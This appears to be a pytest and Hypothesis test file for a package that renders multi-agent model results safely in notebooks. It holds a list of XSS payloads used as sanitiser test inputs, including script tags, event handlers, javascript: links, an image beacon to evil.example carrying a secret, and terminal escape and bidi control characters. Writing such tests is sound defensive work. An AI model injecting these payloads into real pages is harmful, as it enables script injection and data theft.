"""What people read: that it is whole, honest and harmless."""

from __future__ import annotations

import json
import re
import subprocess
import sys
import warnings
from collections.abc import Iterator
from dataclasses import replace
from html.parser import HTMLParser

import nbconvert
import nbformat
import pandas as pd
import pytest
from hostile.places import PLACES, answering, configure
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

import moa_nb as moa
from moa_nb import settings as configuration
from moa_nb.chat import Completion, Message, Usage
from moa_nb.engine import current
from moa_nb.errors import nearest
from moa_nb.panels import figures, html, provenance, text, timeline
from moa_nb.panels.bundle import bundle
from moa_nb.panels.colours import AMBER, BLUE, GREEN, GREY, RED
from moa_nb.panels.comparison import Comparison
from moa_nb.panels.markdown import as_html, first_line, to_html, to_markdown
from moa_nb.panels.markdown.reading import parse
from moa_nb.panels.tables import table
from moa_nb.panels.view import CallView, LayerView, PanelView, caption_of, view_of
from moa_nb.pipeline.result import Call, Layer, Result
from moa_nb.plain import to_plain
from moa_nb.testing import ChatServer

QUESTION = (Message("user", "Why did churn rise in the north?"),)
ANSWER = (
    "Churn rose because **the price changed** while support was slow.\n\n| cause | share |\n|---|--:|\n| price | 41 % |"
)
SYNTHESIS = (Message("system", "Several answers follow; the vault code is 4711."), *QUESTION)

HOSTILE = (
    "<script>alert(1)</script><img src=x onerror=alert(1)>\n\n"
    "[click](javascript:alert(1)) ![pixel](https://evil.example/?q=secret) <svg onload=alert(1)>\n\n"
    '<button data-commandlinker-command="server:run">go</button> <iframe src=//evil.example></iframe>\n\n'
    "[ref]: javascript:alert(1)\n\nsee [ref], <a href='data:text/html,x' onclick=alert(1)>a</a>\n\n"
    "```html\n<img src=x onerror=alert(1)>\n```\n\n$$ `` <b> $$ `<img src=x>`\n\n"
    "\x1b[31mred\x1b[0m \u202egnp.exe \x00 \ud800"
)


def churn(**changes: object) -> Result:
    """Return a run of two layers in which one of four proposers failed and one came from the cache."""
    proposers = (
        Call("alpha", "lab:a", QUESTION, "The **price** change.", Usage(412, 180), 0.0004, 0.0, 0.0, 0.1, 0.4, 2.1),
        Call("beta", "lab:b", QUESTION, "Three things.", Usage(418, 232), 0.0021, 0.0, 0.0, 0.3, None, 3.0, attempts=2),
        Call("gamma", "lab:c", QUESTION, "Support.", Usage(409, 171), 0.0, cached=True, attempts=0),
        Call("delta", "lab:d", QUESTION, seconds=3.5, attempts=3, error="lab does not answer", error_kind="service"),
    )
    aggregator = Call(
        *("aggregator", "lab:e", SYNTHESIS, ANSWER, Usage(901, 307), 0.0098, 0.0, 3.5, 0.1, 0.5, 2.9),
        template="synthesize",
        template_digest="ab12",
        parameters=(("temperature", 0.7), ("api_key", "sk-12345")),
    )
    run = Result(
        text=ANSWER,
        pipeline="moa-lite",
        layers=(Layer("layer 1", proposers), Layer("layer 2", (aggregator,))),
        seconds=6.4,
        degraded=True,
        run_id="run-1",
        conversation=SYNTHESIS,
        budget=0.05,
    )
    return run.replace(**changes)


def voted(**changes: object) -> Result:
    """Return a run of two rounds that ends in a vote, in which one agent changed its answer."""
    rounds = tuple(
        Layer(
            f"round {number}",
            tuple(
                Call(agent, f"lab:{agent}", text=f"I count the eggs that are left: {value}.", value=value)
                for agent, value in zip(("alpha", "beta", "gamma"), values, strict=True)
            ),
        )
        for number, values in ((1, (41, 42, 17)), (2, (42, 42, 17)))
    )
    run = Result(rounds[1].calls[0].text, "debate", rounds, 42, agreement=2 / 3, conversation=QUESTION)
    return run.replace(**changes)


def hostile() -> Result:
    """Return a run in which everything that can be text is an attack."""
    call = Call(
        *(HOSTILE, HOSTILE, (Message("user", HOSTILE),), HOSTILE + "!", Usage(1, 2)),
        reasoning=HOSTILE,
        note=HOSTILE,
        answered_by=HOSTILE,
        template=HOSTILE,
        parameters=((HOSTILE, HOSTILE),),
    )
    failed = Call(HOSTILE, HOSTILE, error=HOSTILE, attempts=2)
    said = Call(HOSTILE, HOSTILE, text=HOSTILE, value=HOSTILE)
    layers = (
        Layer(HOSTILE, (call, failed)),
        Layer("round 1", (said, said)),
        Layer("round 2", (said, replace(said, value={HOSTILE: HOSTILE}))),
        Layer(f"{HOSTILE} › samples", (said, replace(said, value=HOSTILE + "!"))),
        Layer("tier 1", (said,)),
        Layer("routing", (said,), aside=True),
        Layer("answers", (said, replace(said, agent=HOSTILE + "!"))),
        Layer("verdicts", (said, said), aside=True),
    )
    conversation = (Message("user", HOSTILE),)
    return Result(HOSTILE, HOSTILE, layers, HOSTILE, 1.0, notes=(HOSTILE,), run_id=HOSTILE, conversation=conversation)


class Tags(HTMLParser):
    """The tags and attributes of a page, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.words: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Remember a tag."""
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        """Remember words."""
        self.words.append(data)

    @property
    def text(self) -> str:
        """All words of the page."""
        return " ".join(" ".join(self.words).split())


MARKDOWN_TAGS = {
    "a",
    "blockquote",
    "br",
    "code",
    "div",
    "em",
    "li",
    "ol",
    "pre",
    "s",
    "strong",
    "table",
    "td",
    "tr",
    "ul",
}
PANEL_TAGS = MARKDOWN_TAGS | {"b", "details", "span", "summary"}
RENDERED_TAGS = MARKDOWN_TAGS | {"p", "h4", "h5", "h6", "hr", "thead", "tbody", "th"}


def assert_harmless(page: str, tags: set[str], attributes: set[str]) -> None:
    """Fail on a tag or attribute beyond those given, and on an address that is not on the open web."""
    seen = Tags(page)
    assert set(seen.tags) <= tags
    for tag, name, value in seen.attributes:
        assert name in attributes, (tag, name)
        if name == "href":
            assert re.match(r"(https?://|mailto:)", value, re.IGNORECASE), value
        if name == "style":
            assert "url(" not in value
            assert "expression" not in value
    page.encode()  # a lone surrogate could not be saved


ATTRIBUTES = {"style", "href", "title", "target", "rel", "start", "role", "aria-label", "aria-hidden"}

# Random characters seldom make Markdown; pieces of it often make something nobody thought of.
PIECES = st.sampled_from(
    [
        *("<script>", "</script>", "<img src=x onerror=a>", "<svg/onload=a>", "<!--", "-->", "<a href=javascript:a>"),
        *(
            "[a](javascript:a)",
            "[a](data:text/html,a)",
            "![a](http://e/a)",
            "[a]: javascript:a",
            "[a]",
            "](",
            "![",
            "\\!",
        ),
        *("[a](http://e/\"onclick='a')", "<http://e/>", "<javascript:a>", "https://e/a_b", "[x](//e)", "[x](#y)"),
        *("```", "~~~", "`", "``", "    ", "\t", "\n", "\n\n", "> ", "- ", "1. ", "# ", "| a | b |\n|---|---|\n", "|"),
        *(
            "**",
            "*",
            "_",
            "~~",
            "$",
            "$$",
            "\\",
            "\\(",
            "\\begin{x}",
            "&lt;",
            "&#60;",
            "&",
            "<",
            ">",
            '"',
            "'",
            "=",
            "a",
        ),
        *(
            "\x1b[31m",
            "\x1b]8;;http://e\x07",
            "\u202e",
            "\u2066",
            "\x00",
            "\ud800",
            "\r",
            "\x85",
            "@@0@@",
            "&#10;",
            "{{ x }}",
        ),
    ],
)
TEXTS = st.one_of(st.text(max_size=200), st.lists(PIECES, max_size=40).map("".join))


@given(TEXTS)
@example(HOSTILE)
@example("wow\\![a](http://e/a)")
@example("<https://e/**``[a](javascript:a)\\(--[a]>")
@settings(deadline=None, max_examples=300)
def test_any_text_becomes_harmless_html(said: str) -> None:
    """No text a model can write yields a tag, attribute or address beyond the allowed ones."""
    assert_harmless(to_html(said), MARKDOWN_TAGS, ATTRIBUTES)


@given(TEXTS)
@example(HOSTILE)
@example("wow\\![a](http://e/a)")
@example("<https://e/**``[a](javascript:a)\\(--[a]>")
@settings(deadline=None, max_examples=300)
def test_any_text_becomes_harmless_markdown(said: str) -> None:
    """Readers of Markdown that pass raw HTML through find none in a model's text but our code tags."""
    made = to_markdown(said)
    assert "<" not in made.replace("<pre><code>", "").replace("</code></pre>", "").replace("<code>", "").replace(
        "</code>",
        "",
    )
    lenient = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    assert_harmless(lenient.render(made), RENDERED_TAGS, ATTRIBUTES | {"class"})


@given(TEXTS)
@example(HOSTILE)
@example("wow\\![a](http://e/a)")
@example("<https://e/**``[a](javascript:a)\\(--[a]>")
@example("<https://e/**``[a](javascript:a)\\(--[a]>")
@settings(deadline=None, max_examples=100)
def test_any_text_is_harmless_in_an_exported_report(said: str) -> None:
    """The own Markdown renderer of nbconvert makes no script, picture or handler of a model's text."""
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    page = Tags(markdown2html_mistune(to_markdown(said)))
    assert not set(page.tags) & {"script", "img", "svg", "iframe", "button", "object", "style", "form", "input"}
    for _, name, value in page.attributes:
        assert not name.startswith(("on", "data-"))
        if name in {"href", "src"}:
            assert not re.match(r"\s*(javascript|data|vbscript|file):", value, re.IGNORECASE)


@given(TEXTS)
@settings(deadline=None)
def test_plain_text_has_nothing_hidden(said: str) -> None:
    """Text for a terminal has no control characters, overrides or halves of characters."""
    made = to_plain(said)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]", made)


@given(st.lists(TEXTS | st.sampled_from(["\x1b]0;t\x07", "safe\u202egnp", "a\U000e0041", "\ud800"]), max_size=3))
def test_names_of_others_are_harmless_in_an_error(names: list[str]) -> None:
    """Files can be called as they like: what is said of the nearest speaks to no terminal, and turns nothing around."""
    assert nearest("zzzzzz", names).isprintable()


@given(TEXTS, st.integers(1, 60))
@settings(deadline=None)
def test_a_first_line_is_one_line(said: str, width: int) -> None:
    """The line that stands for an answer has no line break and about the width asked for."""
    made = first_line(said, width)
    assert "\n" not in made
    assert len(made) <= width + 2


def test_markdown_keeps_what_reads_well() -> None:
    """Emphasis, lists, tables, code and links to the open web survive in HTML."""
    page = to_html(
        "# T\n\n**b** *e* `c` ~~s~~ [l](https://x.org/a?b=1&c=2)\n\n1. one\n\n| a |\n|--:|\n| 1 |\n\n> q\n\n```\nx < 1\n```"
    )
    assert {"strong", "em", "code", "s", "a", "ol", "li", "table", "td", "blockquote", "pre"} <= set(Tags(page).tags)
    assert 'rel="noopener noreferrer nofollow"' in page
    assert 'target="_blank"' in page
    assert "text-align:right" in page
    assert "x &lt; 1" in page
    assert "<h1" not in page


@pytest.mark.parametrize(
    "said",
    [
        "<<2*2*3=12>>",
        "3*4=12, and 5*6=30",
        "20*$2=40 and (1+2)*3*(4)",
        "50%*.2*3",
        "2**3**4",
        "3 * 4 * 5",
        "*2*3 is 6*",
    ],
)
def test_a_star_between_numbers_multiplies(said: str) -> None:
    """It is shown, in HTML and in Markdown, and emphasizes nothing; around words it does."""
    wanted = said.removeprefix("*").removesuffix("*")
    assert Tags(to_html(said)).text.strip() == wanted
    assert Tags(MarkdownIt().render(to_markdown(said))).text.strip() == wanted
    assert to_html(said).count("<em>") == (wanted != said)
    assert "<strong>Total: 2*3</strong>" in to_html("**Total: 2*3**")


def test_safe_markdown_keeps_what_reads_well() -> None:
    """Emphasis, lists, tables, code and links to the open web survive as Markdown."""
    said = "# T\n\n**b** *e* `c` [l](https://x.org/a)\n\n- one\n  - two\n\n| a | b |\n| --- | ---: |\n| 1 | 2 |\n\n```python\nx = 1\n```"
    assert to_markdown(said) == "###" + said


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("![a **cat**](http://e/c.png)", "[image: a cat]"),
        ("![](data:image/png;base64,AAAA)", "[image]"),
        ("[go](javascript:alert(1))", "go (javascript:alert(1))"),
        ("[go](/api/shutdown)", "go (/api/shutdown)"),
        ("a\u202eb", "a\\u202eb"),
        ("\x1b[1mbold\x1b[0m", "bold"),
        ("\x1b]8;;http://e\x07link\x1b]8;;\x07", "link"),
        ("nul\x00", "nul\u2400"),
        ("half \ud83d", "half \ufffd"),
        ("<b>tag</b>", "<b>tag</b>"),
        ("costs $5, then $6", "costs $5, then $6"),
    ],
)
def test_what_is_refused_is_shown_as_what_it_is(said: str, shown: str) -> None:
    """A picture is named, a refused link keeps its words and its address, hidden characters are visible."""
    assert Tags(to_html(said)).text == shown
    assert Tags(MarkdownIt().render(to_markdown(said))).text == shown


def test_a_long_text_is_cut_and_says_so() -> None:
    """What is beyond the limit is counted, in HTML and in Markdown."""
    assert "… 1,500 more characters" in to_html("x" * 2000, limit=500)
    assert "… 1,500 more characters" in to_markdown("x" * 2000, limit=500)


@pytest.mark.parametrize(
    "piece", ["[", "*a_ ", ">", "`", "![a](", "|a|b|\n|-|-|\n|1|2|\n", "**a", "![", "<a", "- ", "\x1b]"]
)
def test_no_text_takes_long(piece: str) -> None:
    """Fifty thousand characters made to be slow take less than a few seconds."""
    import time

    begun = time.process_time()
    to_html(piece * (50_000 // len(piece)))
    assert time.process_time() - begun < 5


@pytest.mark.parametrize("piece", ["[", "![", "[](", "*_", "a*", "**a", "~~a", "1. a\n", "# a\n", "> a\n", "a\n-\n"])
def test_what_is_hardly_more_than_signs_is_shown_as_it_stands(piece: str) -> None:
    """It is not read as Markdown, which takes long; nothing of it is lost, and a short text is still read."""
    said = piece * 2500
    assert [token.type for token in parse(said)] == ["code_block"]
    assert Tags(to_html(said)).text.split() == said.split()
    assert Tags(MarkdownIt().render(to_markdown(said))).text.split() == said.split()
    assert [token.type for token in parse(piece * 20)] != ["code_block"]


@pytest.mark.parametrize("line", ["- **Price:** it rose by 12 %\n", "| 1 | 2 | 3 |\n", "- Ohio\n"])
def test_a_long_answer_keeps_its_markup(line: str) -> None:
    """Lists with bold words, tables of digits and lists of single words are read as Markdown, however long."""
    head = "| a | b | c |\n|---|---|---|\n" if line.startswith("|") else ""
    assert [token.type for token in parse(head + line * 200)] != ["code_block"]


# -- the view -------------------------------------------------------------------------------------


def test_a_view_says_what_happened() -> None:
    """Captions, states, flags and sums come from the result alone."""
    view = view_of(churn())
    assert [layer.caption for layer in view.layers] == [
        "proposers answer side by side",
        "the aggregator reads 3 answers",
    ]
    assert [call.state for call in view.calls] == ["done", "done", "cached", "failed", "done"]
    assert view.flags == ("degraded: 3 of 4 proposers answered",)
    assert (view.n_calls, view.n_cached, view.state) == (5, 1, "done")
    assert view.cost == pytest.approx(0.0123)


@pytest.mark.parametrize(
    ("changes", "flag"),
    [
        ({"converged": False}, "did not converge"),
        ({"accepted": False}, "not accepted"),
        ({"n_unparsed": 2}, "2 answers not understood"),
        ({"stop_reason": "budget"}, "ended by: budget"),
    ],
)
def test_every_flag_of_a_result_is_shown(changes: dict[str, object], flag: str) -> None:
    """A result that is not a full one says so in the panel, in Markdown and in plain text."""
    view = view_of(churn(**changes))
    assert flag in view.flags
    for shown in (Tags(html.panel(view)).text, text.markdown(view), text.plain(view)):
        assert flag in shown


def test_an_end_as_it_should_be_is_no_flaw() -> None:
    """A consensus, a moderator's end, a last tier whom no gate looks at; a run that failed is not also degraded."""
    for reason in ("consensus", "the moderator", "no improvement"):
        assert view_of(voted(accepted=False, stop_reason=reason)).flags == ()
    assert view_of(voted(accepted=False, stop_reason="hopeless")).flags == ("not accepted",)
    assert view_of(voted(error="the budget is used up", degraded=True, stop_reason="budget")).flags == (
        "ended by: budget",
    )


def test_a_failed_run_and_a_stopped_one_say_so() -> None:
    """A run without an answer gives its reason; one that was interrupted is not called failed."""
    failed = view_of(churn(text="", error="too few agents answered", stop_reason="error"))
    assert failed.state == "failed"
    assert "No answer. too few agents answered" in Tags(html.panel(failed)).text
    assert "too few agents answered" in text.plain(failed)
    assert view_of(churn(error="stopped", stop_reason="interrupted")).state == "stopped"


def test_captions_follow_place_and_count() -> None:
    """A caption says who answers and how many answers are read."""
    assert caption_of(1, n_calls=1, n_read=1, agent="judge") == "the judge reads 1 answer"
    assert caption_of(1, n_calls=3, n_read=3) == "3 agents read 3 answers"
    assert caption_of(0, n_calls=1) == "one agent answers"


# -- the panel ------------------------------------------------------------------------------------


def test_the_panel_has_the_answer_first_and_every_figure() -> None:
    """The answer stands before the calls, and each call's figures are in its row."""
    words = Tags(html.panel(view_of(churn()))).text
    assert words.index("Churn rose because") < words.index("Layer 1") < words.index("Layer 2")
    for figure in ("$0.0123 of $0.05", "2,140 in", "890 out", "5 calls, 1 cached", "6.4 s", "412 → 180", "0.0098"):
        assert figure in words
    assert "sk-12345" not in words
    for remark in ("2 tries", "cached", "failed after 3 tries", "lab does not answer", "temperature 0.7"):
        assert remark in words


def test_the_panel_keeps_to_what_sanitisers_know() -> None:
    """The panel has no tag, attribute or style that a sanitiser drops and that it could not do without."""
    page = Tags(html.panel(view_of(churn())) + html.panel(view_of(voted())))
    assert set(page.tags) <= PANEL_TAGS
    assert {name for _, name, _ in page.attributes} <= ATTRIBUTES | {"colspan", "class"}
    assert {value for _, name, value in page.attributes if name == "class"} == {"tex2jax_ignore mathjax_ignore"}
    styles = [value for _, name, value in page.attributes if name == "style"]
    assert not [style for style in styles if "var(" in style or "url(" in style or "'" in style]
    kept = {
        *("align-items", "background", "background-color", "border", "border-collapse", "border-left"),
        *("border-radius", "border-top", "box-sizing", "color", "display", "flex", "flex-wrap", "font-family"),
        *("font-size", "font-style", "font-weight", "gap", "height", "justify-content", "line-height", "margin"),
        *("margin-left", "max-width", "min-width", "opacity", "overflow", "overflow-wrap", "overflow-x", "padding"),
        *("padding-left", "table-layout", "text-align", "text-overflow", "vertical-align", "white-space", "width"),
        "word-break",
    }
    used = {part.split(":")[0].strip() for style in styles for part in style.split(";") if part.strip()}
    assert used - kept == {"font-variant-numeric", "forced-color-adjust"}


def test_a_strictly_sanitised_panel_still_reads() -> None:
    """An export that knows no <details> and no style shows all words, and few tags as text."""
    from nbconvert.filters.strings import clean_html

    page: str = clean_html(html.panel(view_of(churn())))  # type: ignore[no-untyped-call]
    shown = Tags(page).text
    assert "Churn rose because the price changed" in shown
    assert "41 %" in shown
    assert set(re.findall(r"</?(\w+)[^>]*>", shown)) <= {"details", "summary", "tbody"}
    # A summary has one, for nbclassic, whose style sheet takes its triangle.
    assert "style=" not in shown.replace('<summary style="display:list-item">', "")


def test_a_hostile_run_is_harmless_in_every_form() -> None:
    """No text of a result, wherever it stands, becomes a tag, handler or address."""
    result = hostile()
    shown = bundle(result)
    assert_harmless(shown["text/html"], PANEL_TAGS, ATTRIBUTES | {"class", "colspan"})
    rendered = MarkdownIt("commonmark", {"html": True}).enable("table").render(shown["text/markdown"])
    assert_harmless(rendered, RENDERED_TAGS, ATTRIBUTES)
    assert not re.search("[\x00-\x08\x1b\u202e\ud800]", shown["text/plain"])
    view = view_of(result)
    live = CallView(HOSTILE, HOSTILE, state="answering", text=HOSTILE, note=HOSTILE)
    pieces = [html.header(view), html.answer(view), html.layer_heading(view.layers[0]), html.row(live, 1.0)]
    for piece in [*pieces, *(html.row(call, 1.0) for call in view.calls)]:
        assert_harmless(piece, PANEL_TAGS, ATTRIBUTES | {"class", "colspan"})


def test_a_large_panel_keeps_to_its_size_and_says_what_it_left_out() -> None:
    """Texts are shortened, then rows left out, and the panel counts both."""
    calls = tuple(Call(f"a{n}", "lab:a", (Message("user", f"{n}<é>" * 2000),), f"{n}- é\n" * 3000) for n in range(12))
    long = Result("word " * 20_000, "big", (Layer("layer 1", calls),))
    page = html.panel(view_of(long))
    assert 100_000 < len(page.encode()) <= html.MAX_BYTES
    assert "13 answers and 12 prompts shortened; the whole text is in result.layers" in page
    many = Result("yes", "big", (Layer("layer 1", calls * 40), Layer("layer 2", (Call("z", "lab:z", text="yes"),))))
    page = html.panel(view_of(many), max_bytes=60_000)
    assert len(page.encode()) <= 60_000
    assert re.search(r"\d+ calls left out; the whole text is in result.layers", page)
    assert "Layer 2" in page


@pytest.mark.parametrize(
    ("piece", "most"),
    [
        ("The mill is loud and it broke. ", 1.4),
        ("- an item\n", 1.2),
        ("| x | y |\n", 0.5),
        ("[a](http://b) ", 0.5),
        ("é", 0.5),
    ],
)
def test_a_large_panel_reads_little_more_than_it_shows(
    piece: str, most: float, monkeypatch: pytest.MonkeyPatch
) -> None:
    """However long thirty texts are, as much is read as fits, once or twice; what takes much room is first tried."""
    read: list[int] = []

    def counted(said: str) -> list[Token]:
        read.append(len(said))
        return parse(said)

    monkeypatch.setattr(as_html, "parse", counted)
    as_html._to_html.cache_clear()
    head = "| a | b |\n|---|---|\n" if piece.startswith("|") else ""
    said = head + piece * (100_000 // len(piece))
    calls = tuple(Call(f"a{n}", "lab:a", text=f"{n}\n\n{said}") for n in range(30))
    view = view_of(Result(said, "big", (Layer("layer 1", calls),)))
    size = len(html.panel(view).encode())
    assert 0.7 * html.MAX_BYTES < size <= html.MAX_BYTES
    assert sum(read) < most * html.MAX_BYTES


def test_equal_prompts_and_the_answer_stand_in_the_panel_once() -> None:
    """What would be said twice is referred to."""
    words = Tags(html.panel(view_of(churn()))).text
    assert words.count("Why did churn rise in the north?") == 2
    assert words.count("prompt: the same as alpha's") == 3
    assert "its answer stands above" in words


def test_unknown_is_never_shown_as_zero() -> None:
    """A missing price is a dash and 'unknown cost', a free call is 0, estimated tokens are marked."""
    calls = (
        Call("a", "lab:a", text="x", usage=Usage(10, 5, estimated=True)),
        Call("b", "lab:b", text="y", usage=Usage(10, 5), cost=0.0),
    )
    page = html.panel(view_of(Result("x", "single", (Layer("layer 1", calls),))))
    words = Tags(page).text
    assert "unknown cost" in words
    assert 'title="no known price"' in page
    assert "≈10 → ≈5" in words
    assert "≈20 in" in words
    assert "10 → 5 0" in words
    free = Result("y", "single", (Layer("layer 1", calls[1:]),))
    assert "$0" in Tags(html.panel(view_of(free))).text


def test_a_comparison_says_why_a_judge_gave_no_points() -> None:
    """Verdicts that could not be read are counted in every form; of verdicts that could, nothing is said."""
    answers = {name: Result(name, name, (Layer("layer 1", (Call(name, "lab:a", text=name),)),)) for name in ("a", "b")}
    verdicts = Layer("verdicts", tuple(Call("judge", "lab:judge", text="Hm.") for _ in range(2)), aside=True)
    judged = Result("no verdict could be read", "judge", (verdicts,), n_unparsed=2)
    shown = Comparison(answers, {"a": None, "b": None}, judged).bundle()
    for kind in ("text/html", "text/markdown", "text/plain"):
        assert "judge: 2 of 2 verdicts could not be read, and count for nobody" in shown[kind]
    assert "could not be read" not in repr(Comparison(answers, {"a": 1.0, "b": 0.0}, judged.replace(n_unparsed=0)))
    failed = Result("", "judge", error="no answer: HTTP 500", stop_reason="failed")
    assert repr(Comparison({**answers, "judge": failed})).count("HTTP 500") == 1


def test_estimated_tokens_are_marked_wherever_that_is_known() -> None:
    """In the panel of a comparison, from the store too, and in the listing of costs; reported ones stand as they are."""
    from moa_nb.notebook import kept

    frame = pd.DataFrame({"text": ["The mill is loud. I sent it back.", "It grinds evenly. I like it."]})

    def reports(prompt: str) -> Completion:
        return Completion(prompt[:9], usage=Usage(7, 3), cost=0.0)

    told = moa.Pipeline(name="told", layers=[[moa.agent("told", version="1")(reports)]])
    for _ in range(2):
        found = moa.compare(frame, "text", ["single", told], metric=len, aggregator="offline:lead", progress=False)
        sums = {str(name): round(row["prompt_tokens"]) for name, row in found.table.iterrows()}
        assert sums["told"] == 7
        shown = found._repr_mimebundle_()
        for kind in ("text/html", "text/markdown", "text/plain"):
            words = Tags(shown[kind]).text if kind == "text/html" else shown[kind]
            assert f"≈{sums['single']} → ≈" in words
            assert "7 → 3" in words
            assert "≈7" not in words
    store = current().store(configuration.current())
    for by, marked in (("model", [True, False]), ("day,model", [True, False]), ("day", [True])):
        rows = kept.costs(store, ["--by", by]).rows
        marks = ["≈" in f"{row[-6]}{row[-5]}" for row in rows]
        assert marks[-1]
        assert sorted(marks[:-1], reverse=True) == marked


def test_a_cost_that_may_be_higher_is_shown_as_at_least() -> None:
    """What was sent and never reported counts, and is marked."""
    cut = Call("a", "lab:a", cost=0.002, unreported=1, error="the connection was cut")
    words = Tags(html.panel(view_of(Result("", "single", (Layer("layer 1", (cut,)),), error="cut")))).text
    assert "at least $0.0020" in words


# -- the live pieces ------------------------------------------------------------------------------


def test_a_row_shows_the_end_of_an_answer_while_it_is_written() -> None:
    """While the text grows its end stands there as it is; when it is done it opens."""
    growing = CallView("a", "lab:a", state="answering", text="**old** " * 200 + "**new**", seconds=1.0)
    page = html.row(growing, 2.0)
    assert "**new**" in page
    assert len(page) < 4000
    assert "<details>" not in page
    done = html.row(CallView("a", "lab:a", text="**new**", seconds=1.0), 2.0)
    assert "<strong>new</strong>" in done
    assert "<details>" in done


@pytest.mark.parametrize("state", ["waiting", "queued", "answering", "done", "failed", "cached", "cancelled"])
def test_stacked_rows_line_up(state: str) -> None:
    """The axis and a row in any state give their columns the same widths."""
    call = CallView("a", "lab:a", state=state, text="x", seconds=1.0, error="no" if state == "failed" else None)  # type: ignore[arg-type]

    def widths(page: str) -> list[str]:
        cells = [value for tag, name, value in Tags(page).attributes if (tag, name) == ("td", "style")][:5]
        return [found[1] if (found := re.search(r"(?:^|;)width:([^;]+)", cell)) else "" for cell in cells]

    assert widths(html.row(call, 2.0)) == widths(html.axis(2.0)) == ["30%", "", "13%", "4.7em", "3.4em"]


@given(
    st.floats(0, 1e4),
    st.floats(0, 1e4),
    st.floats(0, 1e4),
    st.one_of(st.none(), st.floats(0, 1e4)),
    st.floats(0, 2e4),
    st.sampled_from(["queued", "answering", "done", "failed", "cached", "cancelled"]),
)
@settings(deadline=None)
def test_a_bar_stays_on_the_time_line(
    started: float,
    seconds: float,
    queued: float,
    first: float | None,
    scale: float,
    state: str,
) -> None:
    """Whatever the clocks say, the parts of a bar are not negative and end where the line ends."""
    call = CallView(
        *("a", "lab:a", "", state),  # type: ignore[arg-type]
        started=started,
        seconds=seconds,
        queued_seconds=queued,
        first_token_seconds=first,
    )
    drawn = re.findall(r"flex:none;margin-left:(-?[\d.]+)%;width:(-?[\d.]+)%", html.row(call, scale))
    parts = [float(number) for part in drawn for number in part]
    assert all(part >= 0 for part in parts)
    assert sum(parts) <= 100.1


def parts_of(call: CallView, scale: float = 10.0) -> list[tuple[str, str, str]]:
    """Return the widths, heights and colours of a call's bar."""
    return [(part.width, part.height, part.colour or part.more) for part in timeline.bar(call, scale)]


def test_a_bar_shows_queue_first_token_and_stream() -> None:
    """Grey while queued, thin until the first token, a mark there, thick while the answer comes."""
    call = CallView("a", "lab:a", queued_seconds=1.0, first_token_seconds=3.0, seconds=8.0)
    assert parts_of(call) == [
        ("10.00", ".16em", GREY),
        ("20.00", ".16em", BLUE),
        ("0", "1.05em", BLUE),
        ("50.00", ".75em", BLUE),
    ]
    assert timeline.times(call) == "from 0.0 s, queued 1.0 s, first token after 3.0 s, answered after 8.0 s"
    assert timeline.times(call) in Tags(html.row(call, 10.0)).text


def test_a_bar_shows_retries_failures_and_the_cache() -> None:
    """Dashed where it was asked again, red to the end where it failed, a green tick where nothing was asked."""
    again = CallView("a", "lab:a", first_token_seconds=3.0, seconds=8.0, attempts=3)
    assert parts_of(again)[0] == ("30.00", "0", f"border-top:.16em dashed {AMBER}")
    assert "3 tries" in timeline.times(again)
    failed = CallView("a", "lab:a", state="failed", seconds=8.0, attempts=3, error="cut")
    assert [colour for _, _, colour in parts_of(failed)] == [RED, RED]
    assert parts_of(CallView("a", "lab:a", state="cached")) == [("0", ".75em", GREEN)]
    assert timeline.LEGEND in html.axis(1.0)


def test_a_call_that_was_asked_once_more_says_so() -> None:
    """An unreadable answer is asked for again, which is no failed try."""
    call = CallView("a", "lab:a", text="It is 4.", attempts=2, repeats=1)
    assert figures.remarks(call) == ("asked once more, unreadable before", "odd")


def test_a_layer_says_what_it_took() -> None:
    """Tokens, dollars and seconds of all its calls, where there are several; a dash where a price is unknown."""
    several, one = view_of(churn()).layers
    words = Tags(html.layer_heading(several)).text
    assert words == "Layer 1 proposers answer side by side 1,239 → 583 0.0025 3.5"
    assert Tags(html.layer_heading(one)).text == "Layer 2 the aggregator reads 3 answers"
    unknown = replace(several, calls=(*several.calls, CallView("e", "lab:e", text="x")))
    assert "\N{EN DASH}" in Tags(html.layer_heading(unknown)).text


def test_the_header_says_how_far_they_agree() -> None:
    """As a share of votes, or how alike free texts are; nothing for tiers, which come one after the other."""
    assert "67 % agreement" in Tags(html.panel(view_of(voted()))).text
    assert "67 % agreement" in text.plain(view_of(voted()))
    assert "19 % alike" in Tags(html.panel(view_of(churn(agreement=0.19)))).text
    tiers = tuple(Layer(f"tier {number}", (Call("a", "lab:a", text="x"),)) for number in (1, 2))
    assert "alike" not in Tags(html.panel(view_of(Result("x", "cascade", tiers, agreement=1.0)))).text


def test_layers_beside_the_answers_say_what_they_are_for() -> None:
    """A judge's layer is named as one, and the next layer counts the answers, not the verdicts."""
    assert caption_of(1, n_calls=6, n_read=3, name="verdicts", aside=True) == "on 3 answers"
    assert (
        caption_of(1, n_calls=8, n_read=1, name="tier 1: verification", aside=True) == "the answer is checked 8 times"
    )
    answers = tuple(Call(name, "lab:a", text=f"{name} it is") for name in "ab")
    verdicts = Layer("verdicts", tuple(Call("j", "lab:j", text="[[A]]", value="A") for _ in range(2)), aside=True)
    fusion = Layer("fusion", (Call("z", "lab:z", text="so", template="fuse/fuse"),))
    view = view_of(Result("so", "rank-and-fuse", (Layer("answers", answers), verdicts, fusion)))
    assert view.layers[2].caption == "the aggregator reads 2 answers"


def test_a_running_panel_has_its_pieces() -> None:
    """The header counts the answers, and the answer is shown as far as it has come."""
    calls = (CallView("a", "lab:a", text="x"), CallView("b", "lab:b", state="queued"))
    view = PanelView("moa", "running", "so far **bold", layers=(LayerView("layer 1", calls, "side by side"),), cost=0.0)
    assert "running, 1 of 2 answered" in Tags(html.header(view)).text
    assert "so far **bold" in html.answer(view)
    assert "Layer 1 side by side" in Tags(html.layer_heading(view.layers[0])).text


# -- Markdown, plain text, provenance -------------------------------------------------------------


